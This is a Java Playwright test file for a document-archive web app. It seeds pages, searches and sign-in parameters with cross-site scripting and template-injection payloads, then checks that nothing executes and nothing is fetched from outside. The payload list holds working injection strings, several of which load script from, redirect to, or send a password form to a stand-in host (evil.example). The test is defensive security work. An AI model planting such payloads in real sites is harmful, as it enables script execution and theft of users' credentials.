package org.guwah.app.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import org.guwah.app.web.page.Links;
import org.guwah.archive.Derivations.DocumentRow;
import org.guwah.model.Restriction;
import org.guwah.model.Viewer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// What strangers may write into a name, a title or a text does nothing but stand there.
class HostileTextTest {
  private static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "\"><script src=//evil.example/x.js></script>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
          "</title><script>alert(1)</script>",
          "</textarea><script>alert(1)</script>",
          "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
          "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)",
          "javascript:alert(1)",
          "<a href=javascript:alert(1)>press</a>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content='0;url=//evil.example/'>",
          "<form action=//evil.example/><input name=passphrase>",
          "<style>@import '//evil.example/x.css';</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "{{constructor.constructor('alert(1)')()}}",
          "${7*7} @if(true)",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "\u2028<script>alert(1)</script>\u2029");

  @Test
  void nothing_runs_and_nothing_is_fetched(@TempDir Path folder) throws IOException {
    try (Site site = Site.empty(folder);
        Chrome chrome = new Chrome();
        BrowserContext person = chrome.person(new Browser.NewContextOptions().setLocale("en"))) {
      for (String payload : PAYLOADS) {
        plant(site, payload);
      }
      site.derive();
      Page page = Chrome.signIn(person, site);
      Set<String> seen = watch(page, site);
      page.onConsoleMessage(message -> seen.add("console: " + message.text()));

      for (String path : everywhere(site)) {
        int status = page.navigate(site.page(path)).status();
        assertTrue(status < 500, path + " gave " + status + ": " + page.content());
        page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)");
        String active =
            "script:not([src='/comfort.js']), iframe, base, svg, form[action^='//'], [onclick], [onload]";
        assertEquals(0, page.locator(active).count(), path);
      }
      assertEquals(Set.of(), seen);
    }
  }

  private static Set<String> watch(Page page, Site site) {
    var seen = new LinkedHashSet<String>();
    page.onDialog(dialog -> {
      seen.add("dialog: " + dialog.message());
      dialog.dismiss();
    });
    page.onRequest(request -> {
      if (!request.url().startsWith(site.page("/"))) {
        seen.add("request: " + request.url());
      }
    });
    return seen;
  }

  private static void plant(Site site, String payload) throws IOException {
    String line = payload.replace('\u2028', ' ').replace('\u2029', ' ');
    String document =
        "document:\nTITLE: %1$s\nPOSTED?: 2021\nPUBLISHER?: %1$s\nBYLINE: %1$s\nLANGUAGE: en\n"
                .formatted(line)
            + "title: %1$s\nbody: %1$s needle %1$s\ncaption: %1$s\nboilerplate: %1$s\n"
                .formatted(line);
    site.put(payload.replace('/', '⁄'), document, payload, payload, Restriction.OPEN);
  }

  private static List<String> everywhere(Site site) throws IOException {
    var library = site.archive.derivations().library(Viewer.owner(Site.OWNER));
    var paths = new ArrayList<>(List.of("/", "/documents", "/items", "/problems", "/log"));
    for (DocumentRow row : library.documents(org.guwah.archive.Derivations.Page.ALL)) {
      paths.add(Links.document(row.id(), "needle"));
      paths.add(Links.document(row.id()) + "?edit");
      paths.add(Links.item(row.item()));
    }
    for (String payload : PAYLOADS) {
      paths.add("/search?q=" + Links.encoded(payload));
      paths.add("/search?q=" + Links.encoded("needle NOT (" + payload));
      paths.add("/documents?from=" + Links.encoded(payload));
      paths.add("/sign-in?next=" + Links.encoded(payload) + "&word=" + Links.encoded(payload));
    }
    paths.add("/search?q=needle");
    return paths;
  }

  @Test
  void a_name_that_turns_the_writing_round_is_shown_as_it_is(@TempDir Path folder)
      throws IOException {
    try (Site site = Site.full(folder);
        Chrome chrome = new Chrome();
        BrowserContext person = chrome.person(new Browser.NewContextOptions().setLocale("en"))) {
      Page page = Chrome.signIn(person, site);
      for (String path : List.of("/", "/items", "/problems", "/log")) {
        page.navigate(site.page(path));
        assertTrue(page.content().contains("list‹U+202E›txt.exe"), path);
        assertFalse(page.content().contains("\u202e"), path);
      }
    }
  }
}
